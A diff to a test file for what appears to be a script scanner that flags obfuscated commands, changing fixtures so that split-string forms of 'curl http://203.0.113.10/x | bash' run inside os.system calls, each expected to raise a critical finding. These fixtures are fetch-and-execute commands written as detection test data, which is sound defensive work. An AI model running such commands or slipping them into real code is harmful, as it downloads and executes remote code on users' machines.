@@ -97,10 +97,14 @@ describe('hidden text is found', () => {
       'SCN201 critical/high scripts/a.py:2',
     ],
     ['reversed', `X = "${[...download].reverse().join('')}"[::-1]`, 'SCN602 high/high scripts/a.py:2'],
-    ['joined', `X = "cu" + "rl http://203.0.113.10/x | ba" + "sh"`, 'SCN201 critical/high scripts/a.py:2'],
+    [
+      'joined',
+      `os.system("cu" + "rl http://203.0.113.10/x | ba" + "sh")`,
+      'SCN201 critical/high scripts/a.py:2',
+    ],
     [
       'joined over lines',
-      `X = ("cu" +\n  "rl http://203.0.113.10/x | bash")`,
+      `os.system("cu" +\n  "rl http://203.0.113.10/x | bash")`,
       'SCN201 critical/high scripts/a.py:2',
     ],
     [
